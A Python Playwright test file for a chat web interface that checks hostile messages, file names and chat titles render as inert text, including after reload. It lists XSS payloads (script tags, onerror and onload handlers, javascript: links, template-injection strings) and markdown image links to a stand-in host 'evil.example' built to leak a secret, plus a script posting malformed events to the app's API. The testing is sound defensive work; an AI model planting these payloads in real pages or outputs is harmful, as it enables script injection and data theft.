"""Texts of users and models are shown as text, and load and tell nothing."""

from playwright.sync_api import expect

from tests.browser.chat import Chat, File

HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'></svg>",
    "![exfiltrate](https://evil.example/steal.png?q=secret)",
    "![exfiltrate][1]\n\n[1]: https://evil.example/steal.png?q=secret",
    "<iframe src='https://evil.example'></iframe>",
    "[click](javascript:window.pwned=1)",
    "${window.pwned = 1} {{constructor.constructor('window.pwned = 1')()}} `${window.pwned = 1}`",
    "</article></div><style>*{display:none}</style><h1>owned</h1>",
    "\"><img src=x onerror=window.pwned=1> ' onmouseover='window.pwned = 1",
    "<link rel=stylesheet href=https://evil.example/a.css><video src=https://evil.example/v.mp4>",
    "<template id=about-model><h2>owned</h2></template>",
]


FOREIGN = "#thread :is(script, style, iframe, link, video, svg[onload], img:not(.picture img))"


def test_hostile_texts_are_shown_as_text_and_again_after_a_reload(chat: Chat) -> None:
    for count, text in enumerate(HOSTILE, start=1):
        chat.ask(text)
        chat.answered(count)
    for _ in range(2):
        expect(chat.page.locator(".bubble")).to_have_text(HOSTILE)
        expect(chat.page.locator(FOREIGN)).to_have_count(0)
        expect(chat.page.locator("#thread a:not([href^='http'])")).to_have_count(0)
        expect(chat.page.locator("h1")).to_have_count(1)
        expect(chat.title).to_have_text(HOSTILE[0])
        assert chat.page.evaluate("window.pwned") is None
        chat.reload()


def test_a_hostile_file_name_is_shown_as_text(chat: Chat) -> None:
    chat.drop(File("<img src=x onerror=window.pwned=1>.png", "image/png", b"no picture"))
    expect(chat.notice).to_contain_text("<img src=x onerror=window.pwned=1>.png")
    assert chat.page.evaluate("window.pwned") is None


def test_a_hostile_title_is_shown_as_text(chat: Chat) -> None:
    chat.ask("harmless")
    chat.answered(1)
    row = chat.chats.first
    row.hover()
    row.get_by_label("Rename").click()
    name = chat.page.get_by_label("Name of this chat")
    name.fill("<img src=x onerror=window.pwned=7>")
    name.press("Enter")
    expect(chat.title).to_have_text("<img src=x onerror=window.pwned=7>")
    expect(chat.chats.filter(has_text="onerror=window.pwned=7")).to_have_count(1)
    assert chat.page.evaluate("window.pwned") is None


JOIN = """async () => {
  const asked = { conversation: ["x"], view: "y", pictures: 7, text: {} };
  for (const fn_index of Array(12).keys()) {
    const body = { data: [], event_data: asked, fn_index, session_hash: "abc", trigger_id: null };
    for (const path of ["queue/join", "run/predict"]) {
      await fetch(`/gradio_api/${path}`, {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify(body),
      });
    }
  }
}"""


def test_events_of_another_form_harm_nothing(chat: Chat) -> None:
    chat.page.evaluate(JOIN)
    chat.ask("still fine")
    expect(chat.answered(1)).to_have_text("still fine")
